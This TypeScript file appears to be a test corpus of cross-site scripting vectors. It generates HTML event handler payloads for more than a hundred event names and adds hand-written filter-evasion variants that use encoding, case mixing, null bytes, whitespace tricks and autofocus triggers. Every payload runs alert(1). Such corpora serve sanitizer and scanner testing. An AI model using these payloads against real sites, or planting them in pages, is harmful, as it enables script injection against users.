import type { VectorClass } from "./vector-class.ts";

const names =
  `abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy
  beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce
  cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu
  contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop
  durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture
  hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart
  lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel
  offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter
  pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress promptaction
  promptdismiss ratechange repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search
  securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit
  suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun
  transitionstart unhandledrejection unload validationstatuschange volumechange waiting webkitanimationend
  webkitanimationiteration webkitanimationstart webkitfullscreenchange webkittransitionend wheel`.split(/\s+/);

export const eventHandlers: VectorClass = {
  name: "event handler attributes",
  documented: "HTML Standard, 8.1.8.2 Event handlers; PortSwigger XSS cheat sheet, event handlers",
  vectors: [
    ...names.map((name) => `<p tabindex="1" on${name}="alert(1)">${name}</p>`),
    `<img src="/icons/nothing.png" onerror="alert(1)">`,
    `<img src=x:x onerror=alert(1)>`,
    `<IMG SRC=x OnErRoR=alert(1)>`,
    `<img/src="x"/onerror="alert(1)">`,
    `<img src=x\nonerror\n=\nalert(1)>`,
    `<img src=x\tonerror=alert(1)>`,
    `<img src=x\fonerror=alert(1)>`,
    `<img src=x \u0000onerror=alert(1)>`,
    `<img src=x onerror\u0000=alert(1)>`,
    `<img src="x\`\`onerror=alert(1)">`,
    `<img src='x' onerror='alert(1)' src="x">`,
    `<img """><script>alert(1)</script>">`,
    `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">`,
    `<img src=x onerror=&#x61;lert(1)>`,
    `<img src=x onerror=\\u0061lert(1)>`,
    `<img src=x onerror=top['al'+'ert'](1)>`,
    `<img src=x onerror=alert\`1\`>`,
    `<img src=x onerror="throw onerror=alert,1">`,
    `<img src=x onerror=eval(name)>`,
    `<img src=x onerror=location=\`javascript:alert\\x281)\`>`,
    `<a onmouseover="alert(1)" href="/promotions">üzerine gelin</a>`,
    `<a href="/promotions" onclick=alert(1)>tıklayın</a>`,
    `<a href=# onclick=alert(1) style=position:fixed;inset:0>her yer</a>`,
    `<details open ontoggle=alert(1)><summary>açık</summary>içerik</details>`,
    `<details ontoggle=alert(1)><summary onclick=alert(1)>kapalı</summary>içerik</details>`,
    `<video src=x onerror=alert(1)></video>`,
    `<video><source onerror=alert(1)></video>`,
    `<video poster=x onloadstart=alert(1)><source></video>`,
    `<audio src onloadstart=alert(1)>`,
    `<audio autoplay oncanplay=alert(1)><source src="https://evil.example/a.wav"></audio>`,
    `<input autofocus onfocus=alert(1)>`,
    `<input type=image src=x onerror=alert(1)>`,
    `<select autofocus onfocus=alert(1)><option>1</select>`,
    `<textarea autofocus onfocus=alert(1)></textarea>`,
    `<keygen autofocus onfocus=alert(1)>`,
    `<button popovertarget=x>a</button><p popover id=x onbeforetoggle=alert(1)>b</p>`,
    `<button commandfor=y command=show-modal>a</button><dialog id=y oncommand=alert(1)>b</dialog>`,
    `<body onload=alert(1)>`,
    `<body onpageshow=alert(1) onhashchange=alert(1)>metin`,
    `<frameset onload=alert(1)><frame src=about:blank></frameset>`,
    `<marquee onstart=alert(1) loop=1>kayan</marquee>`,
    `<isindex type=image src=1 onerror=alert(1)>`,
    `<object data="data:text/html,x" onload=alert(1)></object>`,
    `<embed src=x onload=alert(1)>`,
    `<style onload=alert(1)></style>`,
    `<link rel=stylesheet href="data:text/css," onload=alert(1)>`,
    `<script onerror=alert(1) src=x></script>`,
    `<track default onload=alert(1) src="data:text/vtt,WEBVTT">`,
    `<xss id=x tabindex=1 onfocus=alert(1) autofocus>özel öge</xss>`,
    `<xss contenteditable onbeforeinput=alert(1)>yazın</xss>`,
    `<p contenteditable onfocus=alert(1) autofocus>düzenleyin</p>`,
    `<p style="animation:x 1s" onanimationstart=alert(1)>canlandırma</p>`,
    `<p onclick = "alert(1)" onclick>iki kez</p>`,
  ],
};
